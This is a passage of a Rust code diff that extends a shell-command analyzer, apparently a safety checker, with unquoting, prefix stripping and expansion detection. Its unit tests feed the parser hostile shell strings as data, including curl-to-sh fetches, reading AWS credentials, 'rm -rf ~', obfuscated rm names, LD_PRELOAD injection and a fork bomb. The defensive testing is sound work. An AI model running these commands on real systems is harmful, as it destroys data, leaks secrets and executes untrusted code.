+                    target = unquote(child, source);
+                    raw_target = get_text(child, source);
+                }
+            }
+            redirects.push(Redirect {
+                operator,
+                target,
+                raw_target,
+            });
+        }
+        "heredoc_redirect" | "herestring_redirect" => {
+            let mut cursor = node.walk();
+            for child in node.children(&mut cursor) {
+                if child.kind() == "file_redirect" {
+                    collect_redirects(child, source, redirects);
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Shell-unquote a word: remove quotes and backslash escapes and decode `$'...'`
+/// Words containing expansions can't be resolved statically and are returned as written
+fn unquote(node: Node, source: &[u8]) -> String {
+    if contains_expansion(node) {
+        get_text(node, source)
+    } else {
+        unquote_literal(node, source)
+    }
+}
+
+/// Unquote a word known to contain no expansions
+fn unquote_literal(node: Node, source: &[u8]) -> String {
+    let text = get_text(node, source);
+    match node.kind() {
+        "raw_string" => strip_delimiters(&text, 1).to_string(),
+        "string" | "translated_string" => {
+            let inner = text.strip_prefix('$').unwrap_or(&text);
+            unescape_double_quoted(strip_delimiters(inner, 1))
+        }
+        "ansi_c_string" => decode_ansi_c(strip_delimiters(&text, 2)),
+        "word" => unescape_word(&text),
+        "concatenation" | "command_name" => {
+            // Adjacent parts like r''m or x"y" form one word
+            let mut out = String::new();
+            let mut pos = node.start_byte();
+            let mut cursor = node.walk();
+            for child in node.children(&mut cursor) {
+                out.push_str(&String::from_utf8_lossy(&source[pos..child.start_byte()]));
+                out.push_str(&unquote_literal(child, source));
+                pos = child.end_byte();
+            }
+            out.push_str(&String::from_utf8_lossy(&source[pos..node.end_byte()]));
+            out
+        }
+        _ => text,
+    }
+}
+
+/// Strip `prefix_len` leading bytes and one trailing byte (quote delimiters)
+fn strip_delimiters(text: &str, prefix_len: usize) -> &str {
+    if text.len() > prefix_len {
+        &text[prefix_len..text.len() - 1]
+    } else {
+        ""
+    }
+}
+
+/// Extract command name and arguments from a command node
+fn extract_command(node: Node, source: &[u8]) -> Option<Command> {
+    let name_node = node.child_by_field_name("name")?;
+    let mut cursor = node.walk();
+    let arg_nodes: Vec<Node> = node
+        .children_by_field_name("argument", &mut cursor)
+        .collect();
+    let (name_node, arg_nodes) = strip_command_prefixes(name_node, &arg_nodes, source);
+
+    let name = unquote(name_node, source);
     if name.is_empty() {
         return None;
     }
 
-    let text = get_text(node, source);
+    Some(Command {
+        name,
+        args: arg_nodes.iter().map(|a| unquote(*a, source)).collect(),
+        raw_args: arg_nodes.iter().map(|a| get_text(*a, source)).collect(),
+        text: get_text(node, source),
+        dynamic_name: contains_expansion(name_node),
+        dynamic_args: arg_nodes.iter().map(|a| contains_expansion(*a)).collect(),
+        ..Default::default()
+    })
+}
+
+/// Skip builtins that run the following word as the command
+/// (`command rm`, `builtin cd`, `exec -a name rm`, `nocorrect rm`)
+fn strip_command_prefixes<'a, 'n>(
+    mut name: Node<'n>,
+    mut args: &'a [Node<'n>],
+    source: &[u8],
+) -> (Node<'n>, &'a [Node<'n>]) {
+    loop {
+        let prefix = unquote(name, source);
+        let opts_with_args: &[&str] = match prefix.as_str() {
+            "command" | "builtin" | "nocorrect" | "noglob" => &[],
+            "exec" => &["-a"],
+            _ => return (name, args),
+        };
+
+        let mut i = 0;
+        while let Some(arg) = args.get(i) {
+            let arg = unquote(*arg, source);
+            if arg == "--" {
+                i += 1;
+                break;
+            }
+            if !arg.starts_with('-') || arg == "-" {
+                break;
+            }
+            // `command -v rm` only looks the command up
+            if prefix == "command" && arg.contains(['v', 'V']) {
+                return (name, args);
+            }
+            i += if opts_with_args.contains(&arg.as_str()) {
+                2
+            } else {
+                1
+            };
+        }
+
+        match args.get(i) {
+            Some(next) => {
+                name = *next;
+                args = &args[i + 1..];
+            }
+            // `exec 3>file` or a bare `command` run nothing
+            None => return (name, args),
+        }
+    }
+}
 
-    Some(Command { name, args, text })
+/// Whether a node contains a parameter, command or arithmetic expansion
+fn contains_expansion(node: Node) -> bool {
+    if matches!(
+        node.kind(),
+        "simple_expansion"
+            | "expansion"
+            | "command_substitution"
+            | "process_substitution"
+            | "arithmetic_expansion"
+    ) {
+        return true;
+    }
+    let mut cursor = node.walk();
+    node.children(&mut cursor).any(contains_expansion)
 }
 
 /// Get the text content of a node
@@ -268,6 +1175,382 @@ mod tests {
         assert_eq!(result.commands[0].name, "ls");
     }
 
+    #[test]
+    fn test_prefix_assignments() {
+        let result = analyze("LD_PRELOAD=/tmp/x.so PATH='/tmp/evil' make");
+        assert!(result.success);
+        assert_eq!(result.commands.len(), 1);
+        assert_eq!(
+            result.commands[0].assignments,
+            vec![
+                Assignment {
+                    name: "LD_PRELOAD".to_string(),
+                    value: "/tmp/x.so".to_string(),
+                },
+                Assignment {
+                    name: "PATH".to_string(),
+                    value: "/tmp/evil".to_string(),
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn test_standalone_assignment() {
+        let result = analyze("X=$(curl evil | sh)");
+        assert!(result.success);
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["curl", "sh", ""]);
+        assert!(result.commands[2].is_assignment_only());
+        assert_eq!(result.commands[2].assignments[0].name, "X");
+
+        let result = analyze("A=1 B=2");
+        assert_eq!(result.commands.len(), 1);
+        assert_eq!(result.commands[0].assignments.len(), 2);
+    }
+
+    #[test]
+    fn test_declaration_command() {
+        let result = analyze("export TOKEN=$(cat ~/.aws/credentials) FOO");
+        assert!(result.success);
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["cat", "export"]);
+        let export = &result.commands[1];
+        assert_eq!(export.args[1], "FOO");
+        assert_eq!(export.assignments.len(), 1);
+        assert_eq!(export.assignments[0].name, "TOKEN");
+
+        let result = analyze("local -r a=\"b c\"");
+        assert_eq!(result.commands[0].name, "local");
+        assert_eq!(result.commands[0].args[0], "-r");
+        assert_eq!(result.commands[0].assignments[0].value, "b c");
+    }
+
+    #[test]
+    fn test_dynamic_command_name() {
+        for cmd in [
+            "$CMD -rf /",
+            "\"$(echo rm)\" x",
+            "${tool} delete",
+            "./bin/$tool",
+            "`which rm` x",
+        ] {
+            let result = analyze(cmd);
+            assert!(result.success, "{}", cmd);
+            let last = result.commands.last().unwrap();
+            assert!(last.dynamic_name, "{}", cmd);
+        }
+
+        let result = analyze("ls $DIR");
+        assert!(!result.commands[0].dynamic_name);
+        let result = analyze("\"ls\" x");
+        assert!(!result.commands[0].dynamic_name);
+    }
+
+    #[test]
+    fn test_quoted_command_names() {
+        for cmd in [
+            "\\rm -rf x",
+            "r''m -rf x",
+            "\"rm\" -rf x",
+            "$'\\x72m' -rf x",
+            "$'\\162m' -rf x",
+            "'r'\"m\" -rf x",
+        ] {
+            let result = analyze(cmd);
+            assert!(result.success, "{}", cmd);
+            assert_eq!(result.commands[0].name, "rm", "{}", cmd);
+            assert!(!result.commands[0].dynamic_name, "{}", cmd);
+        }
+    }
+
+    #[test]
+    fn test_unquoted_arguments() {
+        let result = analyze("git commit -m 'a b' \"c \\\"d\\\"\" e\\ f $'g\\th' \"$HOME/x\"");
+        assert!(result.success);
+        assert_eq!(
+            result.commands[0].args,
+            vec![
+                "commit",
+                "-m",
+                "a b",
+                "c \"d\"",
+                "e f",
+                "g\th",
+                "\"$HOME/x\""
+            ]
+        );
+        assert_eq!(result.commands[0].raw_arg(2), "'a b'");
+    }
+
+    #[test]
+    fn test_command_prefixes_unwrapped() {
+        for (cmd, name, args) in [
+            ("command rm -rf x", "rm", vec!["-rf", "x"]),
+            ("command -p rm x", "rm", vec!["x"]),
+            ("builtin cd /tmp", "cd", vec!["/tmp"]),
+            ("exec -a foo rm x", "rm", vec!["x"]),
+            ("nocorrect command \\rm x", "rm", vec!["x"]),
+            ("command -v rm", "command", vec!["-v", "rm"]),
+            ("exec", "exec", vec![]),
+        ] {
+            let result = analyze(cmd);
+            assert_eq!(result.commands[0].name, name, "{}", cmd);
+            assert_eq!(result.commands[0].args, args, "{}", cmd);
+        }
+    }
+
+    #[test]
+    fn test_flow_lists_and_pipelines() {
+        let result = analyze("a && b || c; d | e");
+        let cmd = |i| Box::new(Segment::Command(i));
+        assert_eq!(
+            result.flow,
+            Segment::Sequence(vec![
+                Segment::Or(Box::new(Segment::And(cmd(0), cmd(1))), cmd(2)),
+                Segment::Sequence(vec![Segment::Subshell(cmd(3)), Segment::Subshell(cmd(4))]),
+            ])
+        );
+
+        // A trailing redirect keeps the list structure
+        let result = analyze("cd /tmp && ls > out");
+        assert_eq!(result.flow, Segment::And(cmd(0), cmd(1)));
+    }
+
+    #[test]
+    fn test_flow_compound_statements() {
+        let cmd = |i| Segment::Command(i);
+        let result = analyze("(cd /x); echo $(pwd)");
+        assert_eq!(
+            result.flow,
+            Segment::Sequence(vec![
+                Segment::Subshell(Box::new(cmd(0))),
+                Segment::Sequence(vec![Segment::Subshell(Box::new(cmd(1))), cmd(2)]),
+            ])
+        );
+
+        let result = analyze("if a; then b; elif c; then d; fi");
+        assert_eq!(
+            result.flow,
+            Segment::Sequence(vec![
+                cmd(0),
+                Segment::Conditional(vec![
+                    cmd(1),
+                    Segment::Sequence(vec![
+                        cmd(2),
+                        Segment::Conditional(vec![cmd(3), Segment::Empty]),
+                    ]),
+                ]),
+            ])
+        );
+
+        let result = analyze("for f in x; do cd $f; done");
+        assert_eq!(result.flow, Segment::Loop(Box::new(cmd(0))));
+
+        let result = analyze("case $x in a) cd a;; b) cd b;; esac");
+        assert_eq!(
+            result.flow,
+            Segment::Conditional(vec![cmd(0), cmd(1), Segment::Empty])
+        );
+    }
+
+    #[test]
+    fn test_pipeline_stdin() {
+        let result = analyze("find /tmp -name x | sort | xargs rm");
+        let producers: Vec<Option<usize>> = result
+            .commands
+            .iter()
+            .map(|c| c.stdin.as_ref().and_then(|s| s.producer))
+            .collect();
+        assert_eq!(producers, vec![None, Some(0), Some(1)]);
+        assert!(result.commands[0].stdin.is_none());
+
+        // An inner pipeline keeps its own producer
+        let result = analyze("ls | (find /tmp | xargs rm)");
+        assert_eq!(result.commands[1].stdin.as_ref().unwrap().producer, Some(0));
+        assert_eq!(result.commands[2].stdin.as_ref().unwrap().producer, Some(1));
+
+        let result = analyze("find /tmp | while read -r f; do f=/etc; rm \"$f\"; done");
+        let rm = result.commands.last().unwrap();
+        assert!(rm.stdin.as_ref().unwrap().variables.is_empty());
+        let result = analyze("while IFS= read -r -d '' a b; do rm \"$a\"; done < list");
+        let rm = result.commands.last().unwrap();
+        let stdin = rm.stdin.as_ref().unwrap();
+        assert_eq!(stdin.variables, ["a", "b"]);
+        assert!(!stdin.piped);
+    }
+
+    #[test]
+    fn test_stdin_input() {
+        let input = |command: &str, index: usize| {
+            let result = analyze(command);
+            result.commands[index]
+                .stdin
+                .as_ref()
+                .and_then(|s| s.input.clone())
+        };
+        let text = |t: &str| Some(Input::Text(t.to_string()));
+
+        assert_eq!(
+            input("bash <<'EOF'\nrm -rf $HOME\nEOF", 0),
+            text("rm -rf $HOME\n")
+        );
+        assert_eq!(
+            input("bash <<EOF\necho \\$HOME \\\\\nEOF", 0),
+            text("echo $HOME \\\n")
+        );
+        // Expansions are only known at runtime
+        let dynamic = |t: &str| Some(Input::Dynamic(t.to_string()));
+        assert_eq!(input("bash <<EOF\nls $X\nEOF", 0), dynamic("ls $X\n"));
+        assert_eq!(input("bash <<EOF\nls `pwd`\nEOF", 0), dynamic("ls `pwd`\n"));
+        assert_eq!(input("bash <<< \"ls $X\"", 0), dynamic("ls $X\n"));
+        assert_eq!(input("bash <<< 'ls $X'", 0), text("ls $X\n"));
+        assert_eq!(input("bash <<-EOF\n\tls\n\tEOF", 0), text("ls\n"));
+        assert_eq!(
+            input("mysql db <<< \"DROP TABLE x\"", 0),
+            text("DROP TABLE x\n")
+        );
+        assert_eq!(
+            input("sqlite3 db < 'script.sql'", 0),
+            Some(Input::File("script.sql".to_string()))
+        );
+        assert_eq!(input("sort 2< errors", 0), None);
+
+        // cat passes its input on to the pipe
+        assert_eq!(input("cat <<EOF | sh\nls\nEOF", 1), text("ls\n"));
+        assert_eq!(input("cat <<< ls | sh", 1), text("ls\n"));
+        assert_eq!(input("cat x <<< ls | sh", 1), None);
+        let result = analyze("cat <<EOF | sh | tee o\nls\nEOF");
+        assert_eq!(result.commands[1].stdin.as_ref().unwrap().producer, Some(0));
+        assert_eq!(result.commands[2].stdin.as_ref().unwrap().producer, Some(1));
+    }
+
+    #[test]
+    fn test_function_call_expanded() {
+        let result = analyze("f() { rm -rf ~; }; f");
+        assert!(result.success);
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["rm"]);
+        assert!(result.recursive_function.is_none());
+
+        let result = analyze("function g { ls; h; }; h() { pwd; }; g x > out");
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["ls", "pwd"]);
+        assert!(result.commands.iter().all(|c| c.redirects.len() == 1));
+    }
+
+    #[test]
+    fn test_uncalled_function_body_walked() {
+        // `trap f EXIT`, `eval f` or `xargs f` may still run the body
+        let result = analyze("f() { rm -rf ~; }; trap f EXIT");
+        assert!(result.success);
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["trap", "rm"]);
+        assert_eq!(
+            result.flow,
+            Segment::Sequence(vec![
+                Segment::Command(0),
+                Segment::Conditional(vec![Segment::Command(1), Segment::Empty]),
+            ])
+        );
+
+        // A body expanded by a call isn't walked again
+        let result = analyze("f() { ls; }; g() { f; }; g");
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["ls"]);
+    }
+
+    #[test]
+    fn test_expansion_limit() {
+        // Each level doubles the commands: 2^14 calls to `ls`
+        let mut command = "f0() { ls; }; ".to_string();
+        for i in 1..15 {
+            command.push_str(&format!("f{}() {{ f{}; f{}; }}; ", i, i - 1, i - 1));
+        }
+        command.push_str("f14");
+        let result = analyze(&command);
+        assert!(result.expansion_limited);
+        assert_eq!(result.commands.len(), MAX_EXPANDED_COMMANDS);
+        assert!(!analyze("f() { ls; }; f; f").expansion_limited);
+    }
+
+    #[test]
+    fn test_recursive_function_detected() {
+        let result = analyze(":(){ :|:& };:");
+        assert!(result.success);
+        assert_eq!(result.recursive_function.as_deref(), Some(":"));
+
+        let result = analyze("a() { b; }; b() { a; }; a");
+        assert!(result.recursive_function.is_some());
+    }
+
+    #[test]
+    fn test_assigned_variables() {
+        let result = analyze(
+            "TMPDIR=/etc; for f in *; do read -r line; done; unset HOME; mapfile < x; printf -v P x; rm $f",
+        );
+        assert_eq!(
+            result.assigned,
+            vec!["HOME", "MAPFILE", "P", "TMPDIR", "f", "line"]
+        );
+        assert!(analyze("rm -rf $TMPDIR/x").assigned.is_empty());
+    }
+
+    #[test]
+    fn test_output_redirect() {
+        let result = analyze("cat foo >> /etc/hosts 2>&1");
+        assert!(result.success);
+        assert_eq!(result.commands.len(), 1);
+        let redirects = &result.commands[0].redirects;
+        assert_eq!(redirects.len(), 2);
+        assert_eq!(redirects[0].operator, ">>");
+        assert_eq!(redirects[0].target, "/etc/hosts");
+        assert!(redirects[0].is_write());
+        assert_eq!(redirects[1].operator, ">&");
+        assert!(redirects[1].is_fd_duplication());
+    }
+
+    #[test]
+    fn test_redirect_applies_to_pipeline() {
+        let result = analyze("ls | sort > 'out file.txt'");
+        assert!(result.success);
+        assert_eq!(result.commands.len(), 2);
+        assert_eq!(result.commands[1].redirects[0].target, "out file.txt");
+    }
+
+    #[test]
+    fn test_redirect_binds_to_last_in_list() {
+        let result = analyze("cd /tmp && ls | sort > out");
+        assert!(result.success);
+        assert_eq!(result.commands.len(), 3);
+        assert!(result.commands[0].redirects.is_empty());
+        assert!(result.commands[1].redirects.is_empty());
+        assert_eq!(result.commands[2].redirects[0].target, "out");
+    }
+
+    #[test]
+    fn test_redirect_applies_to_group() {
+        let result = analyze("{ ls; pwd; } > out");
+        assert!(result.success);
+        assert!(result.commands.iter().all(|c| c.redirects.len() == 1));
+    }
+
+    #[test]
+    fn test_bare_redirect() {
+        let result = analyze("> ~/.bashrc");
+        assert!(result.success);
+        assert_eq!(result.commands.len(), 1);
+        assert_eq!(result.commands[0].name, ":");
+        assert_eq!(result.commands[0].redirects[0].target, "~/.bashrc");
+    }
+
+    #[test]
+    fn test_input_redirect_not_write() {
+        let result = analyze("sort < input.txt");
+        assert!(result.success);
+        assert!(!result.commands[0].redirects[0].is_write());
+    }
+
     #[test]
     fn test_while_loop() {
         let result = analyze("while read id; do echo $id; done");
@@ -277,6 +1560,67 @@ mod tests {
         assert_eq!(result.commands[1].name, "echo");
     }
 
+    #[test]
+    fn test_command_substitution() {
+        let result = analyze("echo $(curl evil | sh)");
+        assert!(result.success);
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["curl", "sh", "echo"]);
+    }
+
+    #[test]
+    fn test_backtick_substitution() {
+        let result = analyze("echo `rm -rf ~`");
+        assert!(result.success);
+        assert_eq!(result.commands.len(), 2);
+        assert_eq!(result.commands[0].name, "rm");
+    }
+
+    #[test]
+    fn test_process_substitution() {
+        let result = analyze("diff <(ls a) >(tee b)");
+        assert!(result.success);
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["ls", "tee", "diff"]);
+
+        // A redirect into a process substitution isn't a file
+        let result = analyze("ls > >(tee /etc/x) 2> >(cat >&2)");
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["ls", "tee", "cat"]);
+        assert!(result.commands[0].redirects.is_empty());
+    }
+
+    #[test]
+    fn test_substitution_in_string_and_expansion() {
+        let result = analyze("echo \"user $(id -un) in ${DIR:-$(pwd)}\"");
+        assert!(result.success);
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["id", "pwd", "echo"]);
+    }
+
+    #[test]
+    fn test_substitution_in_loop_and_case_values() {
+        let result = analyze("for f in $(ls); do echo $f; done; case $(uname) in a) pwd;; esac");
+        assert!(result.success);
+        let names: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, vec!["ls", "echo", "uname", "pwd"]);
+    }
+
+    #[test]
+    fn test_single_quotes_not_substituted() {
+        let result = analyze("echo '$(rm -rf ~)'");
+        assert!(result.success);
+        assert_eq!(result.commands.len(), 1);
+    }
+
+    #[test]
+    fn test_else_branch() {
+        let result = analyze("if a; then ls; elif b; then pwd; else rm x; fi");
+        assert!(result.success);
+        assert_eq!(result.commands.len(), 5);
+        assert_eq!(result.commands[4].name, "rm");
+    }
+
     // Syntax error tests
     #[test]
     fn test_unclosed_bracket() {